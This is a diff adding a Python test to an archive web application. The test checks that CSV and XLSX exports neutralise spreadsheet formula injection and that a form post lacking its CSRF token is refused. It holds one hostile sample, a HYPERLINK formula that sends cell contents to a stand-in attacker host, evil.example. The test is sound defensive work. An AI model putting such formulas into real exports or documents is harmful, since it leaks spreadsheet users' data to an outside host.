@@ -226,3 +226,40 @@ def test_the_selected_rows_export_as_csv_and_xlsx(world: World) -> None:
     )
     heading = next(csv.reader(io.StringIO(english.data.decode("utf-8-sig"))))
     assert heading[:2] == ["Reference code", "Title"]
+
+
+def test_the_export_keeps_formulas_inert_and_the_form_needs_its_token(world: World) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    with world.arc.transaction() as session:
+        session.get_one(Record, world.records["CG-internal"]).title = hostile
+    zhang = Browser(world, "zhang")
+    form = {"action": "csv", "record": ids(world, "CG-internal"), "csrf_token": zhang.token}
+    exported = zhang.client.post(
+        "/search/selected",
+        data=form,
+        base_url="https://archive.example",
+        headers={"Referer": "https://archive.example/search"},
+    )
+    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + hostile  # text in Excel, never a formula
+    workbook = zhang.client.post(
+        "/search/selected",
+        data={**form, "action": "xlsx"},
+        base_url="https://archive.example",
+        headers={"Referer": "https://archive.example/search"},
+    )
+    sheet = load_workbook(io.BytesIO(workbook.data)).active
+    assert sheet is not None
+    assert sheet.cell(row=2, column=2).value == hostile
+    assert sheet.cell(row=2, column=2).data_type == "s"
+    # Without the page's CSRF token nothing is done.
+    forged = zhang.client.post(
+        "/search/selected",
+        data={"action": "request", "purpose": "x", "scope": "view", "days": "7",
+              "record": ids(world, "CG-internal")},
+        base_url="https://archive.example",
+        headers={"Referer": "https://archive.example/search"},
+    )  # fmt: skip
+    assert forged.status_code == 400
+    with world.arc.sessions() as session:
+        assert session.scalar(select(func.count()).select_from(AccessRequest)) == 0
